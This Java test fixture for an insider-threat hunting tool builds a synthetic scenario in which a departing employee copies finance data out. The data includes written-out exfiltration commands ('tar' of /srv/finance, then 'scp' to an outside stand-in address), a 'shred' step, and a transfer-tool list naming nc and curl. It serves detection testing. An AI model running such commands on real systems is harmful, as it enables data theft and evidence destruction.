package io.keepwatch.hunting.review;

import io.keepwatch.contracts.Activity;
import io.keepwatch.contracts.Attachment;
import io.keepwatch.hunting.review.Deeds.Who;
import java.time.DayOfWeek;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.time.ZoneId;
import java.time.ZoneOffset;
import java.util.List;
import org.jspecify.annotations.Nullable;

/**
 * Elliot works on weekdays, one like the other, for many weeks. In the night before he leaves he copies data out, some of
 * it to a web server of ours, from which it is pulled twice over VPN; a job of his and a detached session go on; and
 * somebody watches only hours after he left. Others work beside him.
 */
final class Story {
    static final Instant LEFT = Instant.parse("2015-07-28T17:30:40Z");
    static final Duration GAP = Duration.ofHours(10);
    static final Instant NOW = LEFT.plus(Duration.ofDays(3));
    static final ZoneId NEW_YORK = ZoneId.of("America/New_York");
    static final Instant NIGHT = Instant.parse("2015-07-28T02:10:00Z");
    static final Instant TMUX_SINCE = LEFT.minus(Duration.ofDays(91));

    static final Who ELLIOT = Who.person("elliotalderson");
    static final Who MURPHY = Who.person("emurphy");

    static final String OUTSIDE = "203.0.113.9";
    static final String OWN_PUBLIC = "198.51.100.4";
    static final String VPN = "172.16.40.2";

    private static final LocalDate FIRST_DAY = LocalDate.parse("2015-04-01");
    private static final LocalDate LAST_DAY = LocalDate.parse("2015-07-28");

    private Story() {}

    /** Lists as the SOC would keep them. */
    static final Priorities PRIORITIES = new Priorities() {
        @Override
        public boolean isTransferTool(String executable) {
            return List.of("ssh", "scp", "rsync", "curl", "nc").contains(Words.fileName(executable));
        }

        @Override
        public Place place(String address) {
            if (address.startsWith("172.16.")) {
                return Place.VPN;
            }
            if (address.equals(OWN_PUBLIC)) {
                return Place.OWN_PUBLIC;
            }
            return address.startsWith("10.") ? Place.INTERNAL : Place.OUTSIDE;
        }
    };

    static Departure departure() {
        return departure(ELLIOT.subject(), LEFT.plus(GAP), NEW_YORK);
    }

    static Departure departure(String subject, @Nullable Instant watchBegan, ZoneId zone) {
        return new Departure(subject, LEFT, watchBegan, NOW, zone, null);
    }

    static List<Activity> activities() {
        Deeds deeds = new Deeds();
        for (LocalDate day = FIRST_DAY; !day.isAfter(LAST_DAY); day = day.plusDays(1)) {
            job(deeds, day);
            if (day.getDayOfWeek().compareTo(DayOfWeek.FRIDAY) <= 0) {
                workday(deeds, ELLIOT, day, "10.9.0.17");
                workday(deeds, MURPHY, day, "10.9.0.18");
            }
        }
        job(deeds, LAST_DAY.plusDays(1));
        deeds.open(ELLIOT, TMUX_SINCE, "db-1", "s-9", "tmux", TMUX_SINCE);
        deeds.start(ELLIOT, LEFT.minus(Duration.ofDays(10)), "db-1", "/bin/sleep", "sleep 1d", null, "s-9");
        night(deeds);
        pulled(deeds);
        gap(deeds);
        return deeds.all();
    }

    /** Every night at three; the last time after he left, in the gap. */
    private static void job(Deeds deeds, LocalDate day) {
        Instant three = day.atTime(3, 0).toInstant(ZoneOffset.UTC);
        deeds.start(ELLIOT, three, "db-1", "/usr/bin/rsync", "rsync -a /srv/export backup:", "cron", null);
    }

    /** Twelve activities: ten megabytes of confidential data among them. */
    private static void workday(Deeds deeds, Who who, LocalDate day, String address) {
        Instant nine = day.atTime(LocalTime.of(13, 0)).toInstant(ZoneOffset.UTC);
        deeds.interactive(who, nine, address);
        for (int i = 0; i < 5; i++) {
            deeds.start(who, nine.plusSeconds(600L * i), "dev-2", "/bin/bash");
        }
        deeds.start(who, nine.plusSeconds(700), "dev-2", "/usr/bin/vim");
        deeds.start(who, nine.plusSeconds(900), "dev-2", "/usr/bin/git");
        deeds.out(who, nine.plusSeconds(1000), "dev-2", "/usr/bin/ssh", "10.1.0.5", 1_000);
        deeds.access(who, nine.plusSeconds(1100), "internal", 2_000_000);
        deeds.download(who, nine.plusSeconds(1200), "confidential", 10_000_000);
        deeds.print(who, nine.plusSeconds(1300), "internal", 2);
    }

    private static void night(Deeds deeds) {
        deeds.start(ELLIOT, NIGHT, "db-1", "/bin/tar", "tar czf /tmp/.x.tgz /srv/finance", null, null);
        deeds.download(ELLIOT, NIGHT.plusSeconds(10), "confidential", 2_000_000_000);
        deeds.download(ELLIOT, NIGHT.plusSeconds(20), "secret", 500_000_000);
        deeds.start(ELLIOT, NIGHT.plusSeconds(60), "db-1", "/usr/bin/scp", "scp /tmp/.x.tgz me@" + OUTSIDE, null, null);
        deeds.out(ELLIOT, NIGHT.plusSeconds(61), "db-1", "/usr/bin/scp", OUTSIDE, 2_500_000_000L);
        deeds.out(ELLIOT, NIGHT.plusSeconds(120), "db-1", "/usr/bin/rsync", OWN_PUBLIC, 1_200_000_000);
        deeds.out(ELLIOT, NIGHT.plusSeconds(180), "db-1", "/usr/bin/python3", OUTSIDE, 7_000);
        deeds.usb(ELLIOT, NIGHT.plusSeconds(240), 64_000_000);
        deeds.mail(ELLIOT, NIGHT.plusSeconds(300), new Attachment("plan.xlsx", 9_000_000), new Attachment(null, 0));
        deeds.mail(ELLIOT, NIGHT.plusSeconds(310));
    }

    private static void pulled(Deeds deeds) {
        deeds.vpn(MURPHY, LEFT.minusSeconds(9 * 3600), VPN);
        deeds.vpn(ELLIOT, LEFT.minusSeconds(2 * 3600), VPN);
        deeds.pull(LEFT.minusSeconds(3600), "web-1", VPN, 1_200_000_000, null);
        deeds.pull(LEFT.plusSeconds(2 * 3600), "web-1", VPN, 300_000_000, null);
        // Somebody else's address, and nobody's.
        deeds.pull(LEFT.minusSeconds(3000), "web-1", "10.9.0.18", 5_000, null);
        deeds.pull(LEFT.minusSeconds(2000), "web-1", "192.0.2.200", 6_000, null);
    }

    private static void gap(Deeds deeds) {
        deeds.out(ELLIOT, LEFT.plusSeconds(60), "db-1", "/usr/bin/scp", OUTSIDE, 100_000_000);
        deeds.start(ELLIOT, LEFT.plusSeconds(90), "db-1", "/usr/bin/shred");
        deeds.download(ELLIOT, LEFT.plusSeconds(120), "secret", 40_000_000);
        // Watched by then.
        deeds.start(ELLIOT, LEFT.plus(GAP), "db-1", "/usr/bin/whoami");
    }
}
